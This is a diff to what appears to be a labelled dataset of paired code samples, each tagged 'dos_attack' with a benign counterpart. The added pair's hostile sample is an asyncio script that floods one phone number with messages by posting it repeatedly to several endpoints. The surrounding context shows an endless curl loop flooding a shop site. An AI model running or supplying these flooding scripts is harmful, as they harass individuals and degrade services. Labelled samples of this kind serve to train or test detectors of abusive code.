@@ -677,6 +677,16 @@ PAIRS = [
      "import yagmail, time\nyag = yagmail.SMTP(USER, PW)\nfor attempt in range(3):\n    try:\n"
      "        yag.send(to='team@example.org', subject='weekly report', contents=REPORT)\n        break\n"
      "    except Exception:\n        time.sleep(30)"),
+    ("messages: one number posted to each endpoint of a list through a helper, round after round", "dos_attack",
+     "import asyncio, aiohttp\nphone = input('number: ')\nENDPOINTS = [(A_URL, 'phone'), (B_URL, 'mobile')]\n"
+     "async def ping(session, url, field):\n    async with session.post(url, json={field: phone}) as r:\n"
+     "        return r.status\nasync def main():\n    async with aiohttp.ClientSession() as session:\n"
+     "        for i in range(50):\n            await asyncio.gather(*(ping(session, u, f) for u, f in ENDPOINTS))\n"
+     "asyncio.run(main())",
+     "import asyncio, aiohttp\nrecipients = load_team_numbers()\n"
+     "async def ping(session, url, number):\n    async with session.post(url, json={'to': number, 'text': MSG}) as r:\n"
+     "        return r.status\nasync def main():\n    async with aiohttp.ClientSession() as session:\n"
+     "        await asyncio.gather(*(ping(session, GATEWAY, n) for n in recipients))\nasyncio.run(main())"),
     ("flood: a request program run in an endless loop", "dos_attack",
      "import os\nwhile True:\n    os.system('curl -s https://shop.example.com/ > /dev/null &')",
      "import os\nfor i in range(100000):\n    os.system('curl -s http://localhost:8000/')"),
